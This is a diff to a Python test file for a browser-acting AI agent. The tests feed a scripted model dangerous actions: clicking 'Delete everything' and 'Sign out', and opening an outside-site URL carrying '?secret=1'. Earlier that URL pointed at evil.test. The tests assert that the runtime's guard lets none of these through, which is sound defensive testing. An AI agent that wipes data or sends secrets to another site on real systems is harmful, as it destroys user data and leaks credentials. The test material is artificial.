@@ -19,9 +19,11 @@ from tests.runtime.oracle import acting, clicking, elements
 
 QUICK = quick(find_seconds=2, verify_seconds=2, retries=0)
 EXPLORING = QUICK.model_copy(update={"autonomy": "explore"})
+ELSEWHERE = "ELSEWHERE"
+"""Stands for the address of another site, which listens."""
 HOME = """<title>Home</title><nav><a href=/about>About</a> <a href=/contacts>Contacts</a></nav>
 <form method=post action=/wipe><button>Delete everything</button></form>
-<a href=/logout>Sign out</a> <a href=http://evil.test/>Partner</a>
+<a href=/logout>Sign out</a> <a href=ELSEWHERE/>Partner</a>
 <form method=get action=/search><label>Find <input name=q type=search></label><button>Go</button></form>"""
 PAGES: dict[str, Any] = {
     "/": HOME,
@@ -77,7 +79,7 @@ async def test_giving_up_tells_what_was_tried(run: Runner, serve_model: Serve) -
         ("click", "Delete everything", None),
         ("click", "Sign out", None),
         ("click", "Partner", None),
-        ("open", None, "http://evil.test/collect?secret=1"),
+        ("open", None, f"{ELSEWHERE}/collect?secret=1"),
         ("open", None, "/logout"),
         ("hover", "About", None),
         ("click", "Nothing such", None),
@@ -86,10 +88,14 @@ async def test_giving_up_tells_what_was_tried(run: Runner, serve_model: Serve) -
 async def test_an_obedient_model_gets_nothing_through_that_is_not_allowed(
     run: Runner, serve_model: Serve, kind: str, name: str | None, value: str | None
 ) -> None:
-    with App(PAGES) as app, serve_model(acting(lambda heard: (kind, name, value))):
-        summary = await run(exploring(app), settings=QUICK)
-        paths = {event.path for event in app.received}
+    with App({"/": "", "/collect": ""}, host="localhost") as elsewhere:
+        pages = {**PAGES, "/": HOME.replace(ELSEWHERE, elsewhere.url)}
+        told = value and value.replace(ELSEWHERE, elsewhere.url)
+        with App(pages) as app, serve_model(acting(lambda heard: (kind, name, told))):
+            summary = await run(exploring(app), settings=QUICK)
+            paths = {event.path for event in app.received}
     assert summary.outcome in ("stopped before effect", "failed")
+    assert elsewhere.received == []
     assert paths.isdisjoint({"/wipe", "/logout"})
     assert summary.rungs == {}
 
